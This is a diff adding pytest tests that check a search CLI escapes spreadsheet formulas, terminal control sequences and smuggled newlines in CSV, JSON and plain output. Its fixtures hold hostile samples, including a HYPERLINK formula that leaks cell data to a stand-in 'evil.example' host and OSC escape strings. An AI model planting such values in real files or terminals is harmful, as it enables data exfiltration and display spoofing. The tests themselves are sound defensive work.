@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import contextlib
 import csv
+import io
 import json
 import os
 import shutil
@@ -14,7 +15,7 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner, Result
 
-from searchlib import Article, Index
+from searchlib import Article, Index, Quote
 from searchlib_cli import common
 from searchlib_cli.main import main as searchlib_command
 from searchlib_cli.search import search as search_command
@@ -240,6 +241,109 @@ def test_article_text_cannot_inject_terminal_escapes(tmp_path: Path) -> None:
     result = run(search_command, "walrus", "--index", str(tmp_path / "index"), "--color", "never")
     assert result.exit_code == 0
     assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+
+
+HOSTILE = "walrus \x9b31m \x7f \u202eexe.txt\u202c \u2066 \u2028 \x1b]0;owned\x07 end"
+"""Text that steers a terminal: CSI (C1), DEL, bidirectional overrides and isolates, a line
+separator, and an OSC sequence (ESC ... BEL)."""
+_STEERING = ["\x9b", "\x7f", "\u202e", "\u202c", "\u2066", "\u2028", "\x1b", "\x07"]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    """An index of articles whose text, headline and file name try to steer the reader."""
+    with Index(tmp_path / "hostile") as index:
+        index.add(
+            Article(
+                id="formula",
+                headline='=HYPERLINK("http://evil.example/?"&A1,"walrus")',
+                body="walrus -2 @SUM(A1)",
+                quotes=[Quote("walrus", speaker="@Evil")],
+                path="/archive/a.txt\n2. Fake hit\n   fake/id · score 9.99",
+            )
+        )
+        index.add(Article(id="steer", headline="+1 walrus", body=HOSTILE, path="/archive/b.txt"))
+    return tmp_path / "hostile"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile: Path) -> None:
+    result = run(search_command, "walrus", "--index", str(hostile), "--csv")
+    header, *rows = csv.reader(io.StringIO(result.stdout))
+    hits = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    assert hits["formula"]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"walrus")'
+    assert hits["formula"]["speakers"] == "'@Evil"
+    assert hits["steer"]["headline"] == "'+1 walrus"
+    assert hits["formula"]["snippet"] == "walrus -2 @SUM(A1)"  # only a cell's start counts
+    assert not any(cell and cell[0] in "=+-@\t\r" for row in rows for cell in row)
+    numbers = run(search_command, "walrus", "--index", str(hostile), "--csv", "--fields", "rank")
+    assert numbers.stdout.splitlines() == ["rank", "1", "2"]
+
+
+@pytest.mark.parametrize("output", ["--json", "--jsonl"])
+def test_json_escapes_every_control_and_keeps_the_text(hostile: Path, output: str) -> None:
+    result = run(
+        search_command, "walrus", "--index", str(hostile), output, "--fields", "id,snippet"
+    )
+    assert result.exit_code == 0
+    assert not any(character in result.stdout for character in _STEERING)
+    rows = (
+        json.loads(result.stdout)
+        if output == "--json"
+        else [json.loads(line) for line in result.stdout.splitlines()]
+    )
+    with Index(hostile) as index:
+        assert rows == [
+            {"id": row["id"], "snippet": row["snippet"]}
+            for row in index.search("walrus").to_dicts()
+        ]
+    assert any("\u202eexe.txt\u202c" in row["snippet"] for row in rows)
+
+
+def test_show_json_escapes_every_control_and_keeps_the_text(hostile: Path) -> None:
+    result = run(searchlib_command, "show", "steer", "--index", str(hostile), "--json")
+    assert not any(character in result.stdout for character in _STEERING)
+    assert json.loads(result.stdout)["body"] == HOSTILE
+
+
+def test_people_view_drops_controls_and_escapes_line_breaks_in_file_names(hostile: Path) -> None:
+    for command, arguments in [
+        (search_command, ["walrus"]),
+        (searchlib_command, ["show", "steer"]),
+        (searchlib_command, ["show", "formula"]),
+    ]:
+        result = run(command, *arguments, "--index", str(hostile), "--color", "never")
+        assert not any(character in result.stdout for character in _STEERING)
+    lines = run(search_command, "walrus", "--index", str(hostile)).stdout.splitlines()
+    assert sorted(line[3:] for line in lines if line[:3] in ("1. ", "2. ")) == [
+        "+1 walrus",
+        '=HYPERLINK("http://evil.example/?"&A1,"walrus")',
+    ]
+    assert any(
+        line.endswith(" · /archive/a.txt\\n2. Fake hit\\n   fake/id · score 9.99") for line in lines
+    )
+
+
+def test_a_lone_surrogate_in_an_article_does_not_break_output(tmp_path: Path) -> None:
+    with Index(tmp_path / "index") as index:
+        index.add(Article(id="odd", headline="walrus \ud800", body="walrus \udfff text"))
+    for output in ([], ["--json"], ["--jsonl"], ["--csv"]):
+        result = run(search_command, "walrus", "--index", str(tmp_path / "index"), *output)
+        assert result.exit_code == 0, result.stderr
+        result.stdout.encode()  # text any terminal or file can take
+
+
+def test_index_paths_are_printed_escaped(tmp_path: Path, articles: Path) -> None:
+    target = str(tmp_path / "esc\x1b]0;PWNED\x07")
+    commands = [
+        ["index", str(articles), "--index", target],
+        ["stats", "--index", target],
+        ["check", "--index", target],
+    ]
+    for arguments in commands:
+        result = run(searchlib_command, *arguments)
+        assert result.exit_code == 0, result.stderr
+        assert "\x1b" not in result.output and "\x07" not in result.output
+        assert "esc\\x1b]0;PWNED\\x07" in result.stdout
 
 
 def test_missing_default_index_is_built_from_seeds(
